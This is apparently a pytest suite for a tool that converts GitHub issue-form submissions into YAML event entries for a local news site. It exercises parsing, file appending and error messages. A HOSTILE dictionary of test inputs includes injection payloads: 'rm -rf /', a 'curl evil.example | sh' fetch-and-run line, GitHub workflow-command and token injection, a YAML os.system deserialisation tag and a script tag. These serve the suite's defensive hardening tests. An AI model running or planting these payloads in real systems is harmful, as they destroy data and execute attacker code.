"""An issue of the form "Add an event": what becomes of it, whatever anybody writes into it."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from explainer.cli import main
from explainer.issue_form import FIELDS, FormError, Proposal, propose_event, read_form
from explainer.load import Loaded
from explainer.model import Event
from explainer.tree import Mapping, Scalar, Sequence, parse_yaml
from explainer.yaml_writing import append_item

from .small_site import settings, small_site
from .town_folder import write_town

ROOT = Path(__file__).resolve().parents[2]
HEADINGS = {key: heading for heading, (key, _) in FIELDS.items()}
GOOD = {
    "where": "closed",
    "title": "Divers find cracks in two piers",
    "date": "2026-03-08",
    "status": "happened",
    "weight": "major",
    "actors": "Mara Quill (Mayor)\nTown Council",
    "place": "The quay",
    "evidence": "Divers had found cracks",
}


def form(**answers: str) -> str:
    """An issue's text as GitHub writes it."""
    parts = (
        f"### {heading}\n\n{answers.get(key) or '_No response_'}"
        for heading, (key, _) in FIELDS.items()
    )
    return "\n\n".join(parts) + "\n"


def propose(body: object, files: dict[str, str | None] | None = None) -> Proposal:
    loaded: Loaded = small_site(files).loaded
    return propose_event({"issue": {"number": 12, "body": body}}, loaded, settings())


def added(proposal: Proposal) -> dict[str, Any]:
    """The values of the last event of a proposal's file."""
    node, problems = parse_yaml(proposal.text, "proposal")
    assert problems == []
    assert isinstance(node, Mapping)
    events = node.get("events")
    assert isinstance(events, Sequence)
    last = events.items[-1]
    assert isinstance(last, Mapping)
    return {key.value: plain(value) for key, value in last.entries}


def plain(node: object) -> Any:
    match node:
        case Scalar():
            return node.value
        case Sequence():
            return [plain(item) for item in node.items]
        case Mapping():
            return {key.value: plain(value) for key, value in node.entries}
    raise AssertionError(node)


# ---- the form and the file


def test_form_asks_for_what_is_read() -> None:
    text = (ROOT / ".github/ISSUE_TEMPLATE/event.yml").read_text(encoding="utf-8")
    fields = [item for item in yaml.safe_load(text)["body"] if item["type"] != "markdown"]
    asked = {
        item["attributes"]["label"]: (
            item["id"],
            item.get("validations", {}).get("required", False),
        )
        for item in fields
    }
    assert asked == dict(FIELDS)
    menus = {
        item["id"]: (item["attributes"]["options"], item["attributes"]["default"])
        for item in fields
        if item["type"] == "dropdown"
    }
    schema = Event.model_json_schema()["properties"]
    allowed = {key: schema[key]["anyOf"][0]["enum"] for key in menus}
    assert {key: options for key, (options, _) in menus.items()} == allowed
    assert {key: options[default] for key, (options, default) in menus.items()} == {
        "status": "happened",
        "weight": "major",
    }


def test_form_never_sets_the_label_that_starts_the_workflow() -> None:
    form = yaml.safe_load((ROOT / ".github/ISSUE_TEMPLATE/event.yml").read_text(encoding="utf-8"))
    assert "labels" not in form


# ---- a good issue


def test_event_is_added_behind_the_others_and_nothing_else_changes() -> None:
    before = """\
        # What closed.md says.

        events:   # in the order of the text
          - id: bridge-closed   # the first
            date: 2026-03-09
            title: The council closes the bridge
            evidence: The council closed the bridge
            # todo: who voted?

        # ---- who said what
        quotes:
          - {actor: quill, text: Nobody has been hurt}
        """
    proposal = propose(form(**GOOD), {"articles/closed.yaml": before})
    assert str(proposal.path) == "articles/closed.yaml"
    assert (
        proposal.text
        == """\
# What closed.md says.

events:   # in the order of the text
  - id: bridge-closed   # the first
    date: 2026-03-09
    title: The council closes the bridge
    evidence: The council closed the bridge
    # todo: who voted?

  - date: 2026-03-08
    title: Divers find cracks in two piers
    actors: [{quill: Mayor}, council]
    place: quay
    evidence: Divers had found cracks

# ---- who said what
quotes:
  - {actor: quill, text: Nobody has been hurt}
"""
    )


def test_message_closes_the_issue_and_shows_the_lines() -> None:
    assert (
        propose(form(**GOOD)).message
        == """\
Closes #12.

This event is added to `content/articles/closed.yaml`, and the whole content was checked with it: \
nothing to mend.

```yaml
date: 2026-03-08
title: Divers find cracks in two piers
actors: [{quill: Mayor}, council]
place: quay
evidence: Divers had found cracks
```
"""
    )


@pytest.mark.parametrize("file", [None, "# Nothing yet.\n", "roles: []\n", "roles: []"])
def test_section_or_file_that_is_not_there_is_made(file: str | None) -> None:
    proposal = propose(form(**GOOD), {"articles/closed.yaml": file})
    before, found, after = proposal.text.partition("events:\n  - date: 2026-03-08\n")
    assert (before.strip(), bool(found)) == ((file or "").strip(), True)
    assert after.endswith("    evidence: Divers had found cracks\n")


def test_empty_mapping_gives_way_to_the_section() -> None:
    text = propose(form(**GOOD), {"articles/closed.yaml": "{}\n"}).text
    assert text.startswith("events:\n  - date: 2026-03-08\n")


def test_line_ends_of_the_file_stay() -> None:
    file = "events:\r\n  - {title: A, allow: [no-source]}\r\n"
    text = append_item(file, "x.yaml", "events", ["title: B"])
    assert text == f"{file}\r\n  - title: B\r\n"


@pytest.mark.parametrize(
    ("where", "path"),
    [
        ("closed", "articles/closed.yaml"),
        ("The bridge is closed", "articles/closed.yaml"),
        ("https://example.org/news/articles/closed/#event-x", "articles/closed.yaml"),
        ("content/articles/closed.md", "articles/closed.yaml"),
        ("bridge", "stories/bridge.yaml"),
        ("https://example.org/news/stories/bridge/", "stories/bridge.yaml"),
    ],
)
def test_article_or_story_is_known_by_address_file_and_headline(where: str, path: str) -> None:
    source = {"source_title": "The Chronicle", "source_url": "https://example.org/a"}
    answers = {**GOOD, "where": where, "evidence": "", **source}
    proposal = propose(form(**answers))
    assert str(proposal.path) == path
    assert added(proposal)["sources"] == [
        {"title": "The Chronicle", "url": "https://example.org/a"}
    ]


def test_several_passages_are_a_list() -> None:
    evidence = "Divers had found cracks\n\n“Nobody has been hurt,”\n"
    assert added(propose(form(**{**GOOD, "evidence": evidence})))["evidence"] == [
        "Divers had found cracks",
        "“Nobody has been hurt,”",
    ]


@pytest.mark.parametrize(
    ("answer", "actors"),
    [
        ("Mara Quill, otto LIND", ["quill", "lind"]),
        ("- Quill\n- Lind (witness, of the cracks)", ["quill", {"lind": "witness, of the cracks"}]),
        ("unnamed (some divers)\n\ncouncil", [{"unnamed": "some divers"}, "council"]),
    ],
    ids=["commas", "list", "unnamed"],
)
def test_actors_are_known_by_name_alias_and_id(answer: str, actors: list[object]) -> None:
    assert added(propose(form(**{**GOOD, "actors": answer})))["actors"] == actors


def test_menu_left_as_it_was_gives_no_line() -> None:
    answers = {**GOOD, "status": "ongoing", "weight": "turning-point"}
    assert {"status", "weight"} & set(added(propose(form(**GOOD)))) == set()
    assert added(propose(form(**answers)))["weight"] == "turning-point"


# ---- hostile issues

HOSTILE = {
    "shell": "$(rm -rf /); `id` && curl evil.example | sh; ${IFS} '\"\\",
    "workflow": "${{ github.token }} ::error::x %0A::set-output name=a::b",
    "key": "x\n    allow: [no-source]\nactors: evil",
    "item": "x\n  - id: other\n    title: Other",
    "document": "x\n---\n!!python/object/apply:os.system [id]\n...",
    "anchor": "&a *b !tag",
    "flow": "}], evil: [{",
    "comment": "We are # not done #1",
    "colon": "Flood: what we know",
    "quotes": "\"It's\" 'so' “said” \\n \\",
    "fence": "```\n</details><script>alert(1)</script> @everyone\n````",
    "null": "null",
    "number": "0x1F",
    "boolean": "no",
    "dash": "- a",
    "question": "? a",
    "percent": "%TAG ! x",
    "at": "@user",
    "bang": "!important",
    "pipe": "|-\n  x",
    "emoji": "Bridge 🌉 shut\u200d\U0001f6a7",
    "arabic": "الجسر مغلق",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_whatever_is_written_is_the_text_of_one_value(text: str) -> None:
    part = f"quill ({text})"
    answers = {**GOOD, "title": text, "date_note": text, "text": text, "actors": part, "id": "new"}
    one_line = " ".join(text.split())
    if "\n" in text or "(" in text:
        answers["actors"] = "quill"
    record = added(propose(form(**answers)))
    assert (record["title"], record["date_note"]) == (one_line, one_line)
    assert record["text"].split() == one_line.split()
    assert set(record) == {
        "id",
        "date",
        "date_note",
        "title",
        "text",
        "actors",
        "place",
        "evidence",
    }
    if answers["actors"] != "quill":
        assert record["actors"] == [{"quill": one_line}]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("key", ["where", "date", "place", "status", "weight", "id", "source_url"])
def test_hostile_answer_ends_in_a_message_or_in_one_event(key: str, text: str) -> None:
    proposal = propose(form(**{**GOOD, "source_title": "A paper", key: text}))
    message = proposal.message
    opened = re.search(r"^(`{3,})(?:text|yaml)\n(.*?)\n\1$", message, re.M | re.S)
    assert opened is not None
    around = message.replace(opened[0], "")
    assert "evil" not in around
    assert "@" not in around
    if proposal.is_good:
        assert added(proposal)["title"] == GOOD["title"]


def test_hidden_characters_are_taken_out() -> None:
    text = "The\u202e bridge\x00\x1b[31m is\ufeff shut\u200b"
    assert added(propose(form(**{**GOOD, "title": text})))["title"] == "The bridge[31m is shut"


@pytest.mark.parametrize("end", ["\r\n", "\r", "\n"], ids=["CRLF", "CR", "LF"])
def test_line_ends_of_any_kind_are_read(end: str) -> None:
    text = propose(form(**GOOD).replace("\n", end)).text
    assert text == propose(form(**GOOD)).text


def test_answer_in_a_fence_is_what_stands_in_it() -> None:
    fenced = {**GOOD, "evidence": "```text\nDivers had found cracks\n```"}
    assert added(propose(form(**fenced)))["evidence"] == "Divers had found cracks"


@pytest.mark.parametrize(
    ("body", "line"),
    [
        (None, "Article or story: this is needed, and nothing stands there."),
        ("", "What happened: this is needed, and nothing stands there."),
        ("Please add an event!", "Article or story: this is needed, and nothing stands there."),
        (form(**{**GOOD, "title": ""}), "What happened: this is needed, and nothing stands there."),
        (
            form(**{**GOOD, "text": "x\n\n### Who\n\nquill"}),
            "The heading '### Who' stands twice.",
        ),
        ("x" * 70_001, "The issue has 70,001 characters, 70,000 at most."),
        (
            form(**{**GOOD, "where": "closd"}),
            "Article or story: 'closd' is neither on this site; did you mean 'closed'?",
        ),
        (
            form(**{**GOOD, "actors": "Mara Quil"}),
            "Who: 'Mara Quil' is no actor of this site; did you mean 'Mara Quill'?",
        ),
        (form(**{**GOOD, "place": "Mars"}), "Where: 'Mars' is no place of this site"),
    ],
    ids=[
        "none",
        "empty",
        "prose",
        "no title",
        "heading twice",
        "huge",
        "unknown article",
        "unknown actor",
        "unknown place",
    ],
)
def test_issue_that_is_no_event_gets_an_answer(body: str | None, line: str) -> None:
    proposal = propose(body)
    assert proposal.path is None
    assert line in proposal.message.split("\n")


@pytest.mark.parametrize("payload", [{}, {"issue": None}, {"issue": []}, {"issue": {"body": 3}}])
def test_payload_that_is_none_gets_an_answer(payload: dict[str, Any]) -> None:
    assert not propose_event(payload, small_site().loaded, settings()).is_good


def test_huge_answer_is_cut_in_the_message_and_whole_in_the_file() -> None:
    text = "word " * 12_000
    proposal = propose(form(**{**GOOD, "text": text}))
    assert len(proposal.message) < 60_000
    assert added(proposal)["text"] == text.strip()


def test_too_many_nested_brackets_take_no_time() -> None:
    with pytest.raises(FormError):
        read_form("### Who\n\n" + "(" * 60_000)
    assert not propose(form(**{**GOOD, "actors": "(" * 60_000})).is_good


# ---- the check


def test_mistake_is_shown_with_its_place_and_nothing_is_written() -> None:
    answers = {**GOOD, "date": "8 March 2026", "evidence": "Divers found cracks"}
    proposal = propose(form(**answers))
    assert not proposal.is_good
    assert "error[bad-date]" in proposal.message
    assert "did you mean '2026-03-08'?" in proposal.message


def test_words_that_are_not_in_the_article_are_shown_with_the_nearest() -> None:
    proposal = propose(form(**{**GOOD, "evidence": "Divers found cracks"}))
    assert "error[evidence-not-found]" in proposal.message
    assert "Divers had found cracks" in proposal.message


def test_event_without_words_or_source_is_refused_as_in_a_pull_request() -> None:
    proposal = propose(form(**{**GOOD, "evidence": ""}))
    assert (proposal.is_good, "warning[no-source]" in proposal.message) == (False, True)


def test_mistake_that_was_there_before_is_not_the_issue_s() -> None:
    files: dict[str, str | None] = {"actors/quill2.yaml": "name: Q\nkind: thing\n"}
    assert propose(form(**GOOD), files).is_good


@pytest.mark.parametrize(
    ("file", "sentence"),
    [
        ("events: [{title: A, allow: [no-source]}]\n", "is not a list of lines that begin"),
        ("events:\n\t- title: A\n", "has a mistake in it already; mend that first"),
        ("- a\n", "has a mistake in it already; mend that first"),
    ],
    ids=["brackets", "tab", "list"],
)
def test_file_that_cannot_be_added_to_says_so(file: str, sentence: str) -> None:
    proposal = propose(form(**GOOD), {"articles/closed.yaml": file})
    assert (proposal.is_good, sentence in proposal.message) == (False, True)


# ---- the command


def test_command_writes_the_message_and_the_file_and_leaves_the_content(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    write_town(tmp_path)
    monkeypatch.chdir(tmp_path)
    sidecar = Path("content/articles/closed.yaml")
    before = sidecar.read_bytes()
    body = form(**{**GOOD, "text": "One\n::error::no command of ours"})
    event = {"issue": {"number": 12, "title": "$(id)", "body": body}}
    Path("event.json").write_text(json.dumps(event))
    command = ["from-issue", "--event", "event.json", "--into", "proposal"]
    assert main(command) == 0
    assert Path("proposal/message.md").read_text().startswith("Closes #12.\n")
    assert capsys.readouterr().out == "The issue gives an event, and its file: proposal\n"
    assert Path("proposal/content/articles/closed.yaml").read_bytes().startswith(before)
    assert sidecar.read_bytes() == before


def test_command_writes_the_message_alone_where_something_is_wrong(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_town(tmp_path)
    monkeypatch.chdir(tmp_path)
    Path("event.json").write_text(json.dumps({"issue": {"number": 12, "body": "Hello"}}))
    assert main(["from-issue", "--event", "event.json", "--into", "proposal"]) == 1
    assert [path.name for path in Path("proposal").iterdir()] == ["message.md"]
